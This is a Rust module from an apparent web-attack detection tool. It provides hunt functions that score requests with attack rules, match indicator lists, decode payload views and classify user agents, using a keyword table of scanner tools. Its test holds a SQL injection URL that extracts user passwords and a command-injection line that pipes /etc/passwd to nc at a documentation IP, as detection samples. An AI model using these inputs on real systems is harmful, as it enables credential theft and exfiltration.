//! Functions of hunts that need rules: views of a text, points of the patterns, lists of indicators, kinds of user agents. Rules are
//! read when a question first asks for them.

use std::sync::{Arc, OnceLock};

use archive::{FunctionType, FunctionValue, HuntFunction};
use patterns::normalise::views;
use patterns::{Input, PackCheck, View};
use rules::Indicators;
use rules::percent::decoded;

use crate::cli::RuleArguments;
use crate::config::Config;
use crate::rule_files::RuleFiles;

/// What the rules of a configuration bring along.
struct FromRules {
    checks: Vec<[PackCheck; 2]>,
    indicators: Arc<Indicators>,
}

/// Words in the names of agents, in small letters, and what those are: the first that is found counts.
const AGENT_CLASSES: [(&str, &str); 22] = [
    ("sqlmap", "scanner"),
    ("nikto", "scanner"),
    ("nmap", "scanner"),
    ("masscan", "scanner"),
    ("zgrab", "scanner"),
    ("nuclei", "scanner"),
    ("gobuster", "scanner"),
    ("feroxbuster", "scanner"),
    ("wpscan", "scanner"),
    ("bot", "bot"),
    ("spider", "bot"),
    ("crawler", "bot"),
    ("slurp", "bot"),
    ("curl/", "library"),
    ("wget/", "library"),
    ("python", "library"),
    ("go-http-client", "library"),
    ("java/", "library"),
    ("okhttp", "library"),
    ("libwww", "library"),
    ("axios", "library"),
    ("postman", "library"),
];

/// The functions, for the rules of this configuration.
pub(crate) fn hunt_functions(config: &Config) -> Vec<HuntFunction> {
    functions_of(RuleFiles::of(config, &RuleArguments::default()))
}

fn functions_of(files: RuleFiles) -> Vec<HuntFunction> {
    let known: Arc<OnceLock<FromRules>> = Arc::default();
    let files = Arc::new(files);
    let (of_points, of_lists) = ((Arc::clone(&known), Arc::clone(&files)), (known, files));
    let function = |name, texts, returns, of| HuntFunction { name, texts, returns, of };
    vec![
        function(
            "attack_points",
            1,
            FunctionType::Number,
            Arc::new(move |texts| {
                let (known, files) = &of_points;
                Some(FunctionValue::Number(known.get_or_init(|| FromRules::read(files)).points(texts.first()?)))
            }),
        ),
        function(
            "ip_in_list",
            2,
            FunctionType::Truth,
            Arc::new(move |texts| {
                let [value, list] = texts else { return None };
                let (known, files) = &of_lists;
                let known = known.get_or_init(|| FromRules::read(files));
                Some(FunctionValue::Truth(known.indicators.has(list, value)))
            }),
        ),
        function(
            "decode_view",
            2,
            FunctionType::Text,
            Arc::new(|texts| {
                let [text, view] = texts else { return None };
                decode_view(text, view).map(FunctionValue::Text)
            }),
        ),
        function(
            "user_agent_class",
            1,
            FunctionType::Text,
            Arc::new(|texts| texts.first().map(|agent| FunctionValue::Text(agent_class(agent).to_owned()))),
        ),
    ]
}

impl FromRules {
    fn read(files: &RuleFiles) -> FromRules {
        let indicators = files.indicators.find().map(|(paths, stamp)| files.indicators.load(&paths, stamp).0);
        let loaded = files.load();
        if let Err(error) = &loaded {
            tracing::warn!(%error, "rules for functions of hunts cannot be read: attack_points gives 0");
        }
        let packs = loaded.iter().flat_map(|loaded| &loaded.set.rules).filter_map(|rule| rule.pack.clone());
        let checks =
            packs.map(|pack| [Input::Target, Input::Text].map(|input| PackCheck::new(Arc::clone(&pack), input)));
        FromRules { checks: checks.collect(), indicators: indicators.unwrap_or_default() }
    }

    /// The most points that a pack gives a text: as a target of a request where it begins as one.
    fn points(&self, text: &str) -> i64 {
        let of_pack = |[target, plain]: &[PackCheck; 2]| {
            let check = if text.starts_with('/') { target } else { plain };
            check.standing(text).points
        };
        i64::from(self.checks.iter().map(of_pack).max().unwrap_or(0))
    }
}

/// The view of a text, `None` where it shows nothing else than the text percent-decoded, or there is no such view.
fn decode_view(text: &str, view: &str) -> Option<String> {
    let plain = decoded(text).last().unwrap_or_else(|| text.to_owned());
    let wanted = match view {
        "decoded" => return (plain != text).then_some(plain),
        "markup" => View::Markup,
        "script" => View::Script,
        "sql" => View::Sql,
        "shell" => View::Shell,
        "path" => View::Path,
        "base64" => View::Base64,
        _ => return None,
    };
    let mut found = None;
    views(&plain, &mut |view, shown| {
        if view == wanted {
            found = Some(shown.to_owned());
        }
    });
    found
}

/// What an agent says it is: `scanner`, `bot`, `library`, `browser`, `none` or `other`. Anybody can say anything.
fn agent_class(agent: &str) -> &'static str {
    let small = agent.to_ascii_lowercase();
    let known = AGENT_CLASSES.iter().find(|(word, _)| small.contains(word));
    match known {
        Some((_, class)) => class,
        None if matches!(small.trim(), "" | "-") => "none",
        None if small.starts_with("mozilla/") || small.starts_with("opera/") => "browser",
        None => "other",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::indicators::IndicatorFiles;

    #[test]
    fn functions_say_what_rules_would() {
        let built_in = RuleFiles {
            paths: Vec::new(),
            default: true,
            placeholders: Vec::new(),
            taxonomy: Vec::new(),
            exceptions: Vec::new(),
            indicators: IndicatorFiles::new(Vec::new()),
            paranoia: 1,
        };
        let functions = functions_of(built_in);
        let call = |name: &str, texts: &[&str]| {
            let function = functions.iter().find(|function| function.name == name).unwrap();
            assert_eq!(function.texts, texts.len());
            (function.of)(texts)
        };
        let points = |text: &str| match call("attack_points", &[text]) {
            Some(FunctionValue::Number(points)) => points,
            other => panic!("{other:?}"),
        };
        assert!(points("/a.php?id=1%20union%20select%20name,pass%20from%20users--") >= 5);
        assert!(points("id; cat /etc/passwd | nc 192.0.2.1 99") >= 5);
        assert_eq!(points("/news/2026/spring.html?page=2"), 0);
        assert_eq!(call("ip_in_list", &["192.0.2.1", "none"]), Some(FunctionValue::Truth(false)));
        let view = |text: &str, view: &str| match call("decode_view", &[text, view]) {
            Some(FunctionValue::Text(text)) => text,
            other => format!("{other:?}"),
        };
        assert_eq!(view("a%2527", "decoded"), "a'");
        assert_eq!(view("/a/./b//c", "path"), "/a/b/c");
        assert_eq!(view("plain", "sql"), "None");
        for (agent, class) in [
            ("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/140.0", "browser"),
            ("Mozilla/5.0 (compatible; Exabot/3.0)", "bot"),
            ("sqlmap/1.9", "scanner"),
            ("curl/8.5.0", "library"),
            ("-", "none"),
            ("My Agent", "other"),
        ] {
            assert_eq!(agent_class(agent), class, "{agent}");
        }
    }
}
